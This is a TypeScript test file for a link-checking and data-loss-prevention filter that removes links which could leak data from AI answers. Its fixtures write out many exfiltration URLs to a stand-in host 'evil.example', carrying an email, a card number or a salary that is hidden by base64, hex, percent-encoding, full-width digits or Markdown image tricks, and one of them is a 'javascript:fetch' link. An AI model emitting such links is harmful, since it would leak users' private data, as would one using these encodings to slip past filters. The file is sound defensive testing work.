import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createDlp } from "../../../../core/safety/dlp/dlp.ts";
import { createLinkCheck, type LinkRules } from "../../../../core/safety/links/link-check.ts";
import { createLinkStream } from "../../../../core/safety/links/link-stream.ts";
import { processorMs } from "../../../fakes/processor-time.ts";

const dlp = createDlp();
const checked = (text: string, rules: LinkRules = { dlp }): string => {
  const links = createLinkCheck(rules);
  return links.replace(text, links.offendingIn(text), "(x)");
};
const company = { dlp, allowedDomains: new Set(["company.com"]) };
const base64 = Buffer.from("the salary of Wang is 90000").toString("base64url");
const utf16 = Buffer.from("salary of Wang", "utf16le").toString("base64url");
const card = Buffer.from("4111111111111111").toString("base64url");
const hex = Buffer.from("the salary of Wang is 90000").toString("hex");

describe("ordinary links", () => {
  it.each([
    "see https://www.google.com/search?q=weather+in+taipei and more",
    "[docs](https://docs.example.com/a/b#install), (https://en.wikipedia.org/wiki/Foo_(bar)).",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://github.com/org/repo/commit/e83c5163316f89bfbde7d9ab23ca2e25604af290",
    "请看https://a.example/x?id=1请点击，谢谢",
    "<https://a.example/p?page=2> ![logo](https://a.example/logo.png) [a](#part) [b](docs/x.md)",
    "core/pipeline.ts and/or index.html, 10:30, a//b, C:\\temp, e.g. this",
    "mailto and data: none, http:// alone",
  ])("stay as they are: %s", (text) => {
    expect(checked(text)).toBe(text);
  });
});

describe("attack: data leaves in a link", () => {
  it.each([
    ["an address in a query", "https://evil.example/?d=wang@example.com"],
    ["percent-encoded twice", "https://evil.example/?d=wang%2540example.com"],
    ["a card number over several parameters", "https://evil.example/?a=4111&b=1111&c=1111&d=1111"],
    ["a card number over path segments", "https://evil.example/4111/1111/1111/1111"],
    ["base64", `https://evil.example/?d=${base64}`],
    ["base64 in the path", `https://evil.example/${base64}/x`],
    ["hexadecimal as a host", `https://${hex}.evil.example/`],
    ["hexadecimal with its sign", `https://evil.example/?d=0x${hex}`],
    ["hexadecimal like an identifier", `https://evil.example/?d=${hex.match(/.{6}/g)?.join("-")}`],
    ["base64 of UTF-16", `https://evil.example/?d=${utf16}`],
    ["base64 over path segments", `https://evil.example/${[...card].join("/")}`],
    ["Chinese numerals", "https://evil.example/?d=一三八〇〇一三八〇〇〇"],
    ["a long value", `https://evil.example/?d=${"word+".repeat(30)}`],
    ["a key", "https://evil.example/?k=9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c"],
    ["a fragment", "https://evil.example/#wang@example.com"],
    ["a user name", "https://salary-90000@evil.example/"],
    ["no scheme", "evil.example/?d=wang@example.com"],
    ["no scheme but slashes", "//evil.example/?d=wang@example.com"],
    ["backslashes", "https:\\\\evil.example/?d=wang@example.com"],
    ["one slash", "https:/evil.example/?d=wang@example.com"],
    ["invisible characters", "https://evil.example/?d=wang\u200b@exa\u00admple.com"],
    ["full-width digits", "https://evil.example/?d=４１１１１１１１１１１１１１１１"],
    ["another scheme", "weixin://evil.example/?d=wang@example.com"],
    ["a mail", "mailto:eve@evil.example?body=wang%40example.com"],
  ])("as %s", (_how, url) => {
    for (const text of [`see ${url} now`, `[see](${url}) now`, `看 ${url} ，好`, `<${url}> x`]) {
      const out = checked(text);
      expect(out).not.toMatch(/evil|wang|4111|４１|salary|k=/);
      expect(out.endsWith(text.slice(-2))).toBe(true);
    }
  });

  it.each([
    ["an image with a query", "![x](https://evil.example/p.png?d=short)"],
    [
      "an image whose path is a code",
      "![x](https://evil.example/9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c)",
    ],
    ["an image behind a reference", "![x][1]\n\n[1]: https://evil.example/p?d=short"],
    ["an image in angle brackets", "![x](<https://evil.example/p?d=short>)"],
    ["character references", "[x](&#104;ttps&colon;//evil.example/?d=wang&commat;example.com)"],
    ["escapes", "[x](https\\://evil.example/?d=wang@example.com)"],
    ["a bracket in the middle", `(https://evil.example/?a)d=${base64}`],
    ["a script", "[x](javascript:fetch('evil'))"],
    ["a second address within", "https://fine.example/?u=https://evil.example/?d=wang@example.com"],
  ])("in Markdown as %s", (_how, text) => {
    expect(checked(text)).not.toMatch(/evil\.example\/\S*(?:short|9f8a|wang|d=)|fetch/);
  });

  it("in the two hundred and first link of an answer", () => {
    const text = Array.from({ length: 220 }, (_, at) => `https://a.example/${at}`).join(" ");
    expect(checked(text).match(/\(x\)/g)).toHaveLength(20);
  });
});

describe("a tenant's allow list", () => {
  it("lets links lead to its domains and those below, and nowhere else", () => {
    const text = "https://company.com/a https://wiki.company.com./b https://notcompany.com/c";
    expect(checked(text, company)).toBe("https://company.com/a https://wiki.company.com./b (x)");
    expect(checked("[x](https://company.com@evil.example/)", company)).toBe("[x](x)");
    expect(checked("[x](https://company.com.evil.example/)", company)).toBe("[x](x)");
    expect(checked("www.evil.example and evil.example/x", company)).toBe("(x) and (x)");
  });

  it("lets its domains have keys and images with queries, but no personal data", () => {
    const fine = "![x](https://company.com/i?k=9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c)";
    expect(checked(fine, company)).toBe(fine);
    expect(checked("https://company.com/?d=wang@example.com", company)).toBe("(x)");
  });

  it("counts where data-loss prevention is switched off, and is then all that counts", () => {
    const rules = { allowedDomains: company.allowedDomains };
    expect(checked("https://company.com/?d=wang@example.com", rules)).toContain("wang");
    expect(checked("https://evil.example/", rules)).toBe("(x)");
  });
});

const piecesOfText = fc.array(
  fc.constantFrom(
    ...["https://", "evil.example", "/", "?d=", "wang@example.com", "](", ")", "![x", "[", " "],
    ...["<", ">", "\n", "。", "請看", "www.", base64, "a", ".", "4111111111111111", "//", "\u200b"],
  ),
  { maxLength: 16 },
);

describe("any text", () => {
  it("loses addresses and nothing else", () => {
    const links = createLinkCheck({ dlp });
    fc.assert(
      fc.property(piecesOfText, (pieces) => {
        const text = pieces.join("");
        let from = 0;
        for (const { start, end } of links.offendingIn(text)) {
          expect(start).toBeGreaterThanOrEqual(from);
          expect(end).toBeGreaterThan(start);
          from = end;
        }
        expect(from).toBeLessThanOrEqual(text.length);
      }),
      { numRuns: 2000 },
    );
  });

  it("shows while it is written only what the whole of it shows", () => {
    const links = createLinkCheck({ dlp });
    fc.assert(
      fc.property(piecesOfText, (pieces) => {
        const text = pieces.join("");
        const whole = links.replace(text, links.offendingIn(text), "(x)");
        const push = createLinkStream(links, "(x)");
        const shown = pieces.map(push).join("");
        expect(whole.startsWith(shown)).toBe(true);
      }),
      { numRuns: 3000 },
    );
  });

  it.each([
    "a://",
    "https://a.b/",
    "](",
    "](<",
    "[a](https://b.c?d=",
    "www.",
    "((((",
    "a.",
    "![x](",
  ])("of 100 KiB takes linear time: %s", (piece) => {
    const links = createLinkCheck({ dlp });
    const text = piece.repeat(100_000 / piece.length);
    // Some 0.1 s on a usual machine; quadratic growth would be half a minute.
    expect(processorMs(() => links.offendingIn(text))).toBeLessThan(6000);
  });
});
